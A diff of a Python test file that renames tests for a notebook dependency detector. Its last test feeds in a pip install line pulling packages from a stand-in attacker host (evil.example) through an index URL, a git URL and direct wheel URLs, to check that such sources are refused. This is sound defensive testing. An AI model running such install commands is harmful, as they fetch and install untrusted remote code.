@@ -50,7 +50,7 @@ def test_imports_name_distributions_and_pythons_own_name_none() -> None:
     assert "cv2" in found.imports()
 
 
-def test_what_a_call_imports_is_needed_too_but_never_a_reason_to_make_an_environment() -> None:
+def test_import_of_a_call_is_needed_but_makes_no_environment() -> None:
     found = needs(
         "import pandas as pd\npd.read_csv('a.csv').style", "from tqdm.notebook import tqdm"
     )
@@ -75,7 +75,7 @@ def test_python_2_cells_are_read_too() -> None:
     assert set(by_name(found)) == {"pandas", "seaborn", "xgboost"}
 
 
-def test_an_import_that_may_fail_is_no_reason_to_make_an_environment() -> None:
+def test_import_that_may_fail_makes_no_environment() -> None:
     found = needs(
         "try:\n    import catboost\n    import nowhere\nexcept ImportError:\n    catboost = None",
         "import pandas as pd\npd.read_excel('x.xls')",
@@ -124,7 +124,7 @@ def test_install_lines_count_with_their_versions() -> None:
     assert found.unknown == (), "the notebook's author names the distribution"
 
 
-def test_what_is_no_package_in_an_install_line_is_refused_and_said() -> None:
+def test_other_words_in_an_install_line_are_refused() -> None:
     found = needs(
         "!pip install --index-url http://evil.example alpha ./local.whl -e . "
         "git+https://evil.example/x https://evil.example/y.whl 'beta @ https://evil.example/z' "
